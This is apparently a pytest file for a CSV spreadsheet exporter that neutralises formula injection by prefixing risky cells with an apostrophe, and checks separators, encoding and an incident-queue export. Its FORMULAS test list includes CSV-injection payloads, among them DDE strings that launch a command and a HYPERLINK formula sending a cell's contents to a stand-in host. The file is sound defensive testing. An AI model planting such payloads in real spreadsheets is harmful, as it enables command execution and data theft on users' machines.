"""A file for a spreadsheet: nothing that people wrote in it is a formula, and nothing is lost."""

from __future__ import annotations

import csv

import pytest

from cards.queue import COLUMNS, queue_sheet
from cards.spreadsheet import BYTE_ORDER_MARK, defused, spreadsheet
from tests.support.builders import NOW, ORGANISATION, a_person, an_incident, texts_in

FORMULAS = [
    "=1+2", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "\u00a0=1", "\u3000+1",
    "＝1", "＋1", "－1", "＠A1", "﹦1", "﹢1", "﹣1", "﹫A1", '=1+2";=1+2', "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example?leak=\"&A1)", "\tMon écran",
]  # fmt: skip
PLAIN = [
    "",
    " ",
    "Mon écran",
    "1 = 1",
    "a@b.example",
    "'=1",
    "100 %",
    "«=1»",
    "😀",
    "x" * 4000,
    "—",
    "−1",
]


def read(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8-sig")
    return list(csv.reader(text.splitlines(keepends=True), delimiter=";"))


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_begins_like_a_formula_begins_with_an_apostrophe(cell: str) -> None:
    assert defused(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", PLAIN)
def test_any_other_cell_stays_as_it_is(cell: str) -> None:
    assert defused(cell) == cell


def test_separators_quotes_and_new_lines_begin_no_cell_of_their_own() -> None:
    row = ['a";=1+2', "b;c", "d\n=1", "e\r\n@f", ";", '"', ""]
    assert read(spreadsheet([row, ["next"]])) == [row, ["next"]]


def test_a_french_spreadsheet_opens_it_by_a_double_click() -> None:
    content = spreadsheet([["é", "b"]])
    assert content == f'{BYTE_ORDER_MARK}"é";"b"\r\n'.encode()
    assert content[:3] == b"\xef\xbb\xbf"


@pytest.mark.parametrize("locale", ["fr", "en"])
@pytest.mark.parametrize("words", FORMULAS)
def test_nothing_of_a_request_is_a_formula(locale: str, words: str) -> None:
    reporter = a_person(words, service=words)
    incident = an_incident(f"x{words}", reporter=reporter)
    incident.take(a_person(words, person_id="t"), NOW)
    incident.what = words
    head, row = read(queue_sheet([incident], ORGANISATION, texts_in(locale)))
    assert len(head) == len(row) == len(COLUMNS)
    assert [cell for cell in row if cell.lstrip()[:1] in tuple("=+-@＝＋－＠﹦﹢﹣﹫")] == []


def test_times_are_iso_as_the_wall_says_them() -> None:
    _, row = read(queue_sheet([an_incident()], ORGANISATION, texts_in()))
    said = dict(zip(COLUMNS, row, strict=True))
    assert (said["reported"], said["take_by"]) == ("2026-04-14 10:20", "2026-04-14 10:50")
    assert said["state"] == "à prendre"
    assert said["overdue"] == ""
